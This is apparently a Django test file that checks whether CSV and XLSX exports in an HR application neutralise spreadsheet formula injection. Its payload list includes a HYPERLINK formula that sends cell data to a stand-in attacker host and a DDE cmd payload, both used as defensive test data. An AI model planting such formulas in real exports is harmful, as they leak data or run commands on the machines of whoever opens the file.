"""Probe replay (medium): every CSV/XLSX export neutralises spreadsheet formulas through printing.exports."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from printing.exports import safe_cell
from tests.cases.conftest import make_case
from tests.factories import EmployeeFactory, OrgUnitFactory

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\tx",
    "\rx",
]


def test_safe_cell_prefixes_every_formula_start_and_leaves_numbers():
    for value in FORMULAS:
        assert safe_cell(value) == "'" + value
    assert safe_cell("Siti") == "Siti" and safe_cell(-5) == -5 and safe_cell("") == "" and safe_cell(None) is None


def test_case_csv_export_writes_no_formula(client, hr_user):
    unit = OrgUnitFactory(code="EVIL", name="@SUM(1+1)")
    for name in FORMULAS:
        make_case(hr_user, EmployeeFactory(unit=unit, full_name=name))
    client.force_login(hr_user)
    body = b"".join(client.get(reverse("cases:case_export")).streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))[1:]
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert sorted(r[1] for r in rows) == sorted("'" + v for v in FORMULAS)


def test_compliance_exports_write_no_formula(hr_client, quiz, hr_user):
    from training import services
    from training.models import Campaign

    unit = OrgUnitFactory(code="EVIL", name="=1+1")
    for name in FORMULAS:
        EmployeeFactory(unit=unit, full_name=name)
    campaign = Campaign.objects.create(title="K", quiz=quiz, due_date="2024-01-01")
    campaign.target_units.set([unit])
    services.launch_campaign(campaign=campaign, acting_user=hr_user)
    url = reverse("training:compliance_export", args=["csv"])
    body = hr_client.get(url, {"campaign": campaign.pk}).content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(body)) for c in row]
    assert "'=1+1" in cells and not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    xlsx = hr_client.get(reverse("training:compliance_export", args=["xlsx"]), {"campaign": campaign.pk})
    wb = load_workbook(io.BytesIO(xlsx.content))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)


def test_every_module_that_writes_a_spreadsheet_uses_the_one_helper():
    root = Path(settings.BASE_DIR)
    for path in root.glob("*/**/*.py"):
        parts = path.relative_to(root).parts
        if parts[0] in {".venv", "tests", "var"} or "management" in parts:
            continue
        text = path.read_text(encoding="utf-8")
        tree = ast.parse(text)
        writes = any(
            isinstance(n, ast.Attribute) and n.attr in {"writer", "DictWriter", "writerow", "writerows"}
            for n in ast.walk(tree)
        ) or any(isinstance(n, ast.Name) and n.id == "Workbook" for n in ast.walk(tree))
        if writes and path.name != "importing.py":  # importing.py writes only the fixed header template
            assert "safe_row" in text or path.match("printing/exports.py"), path
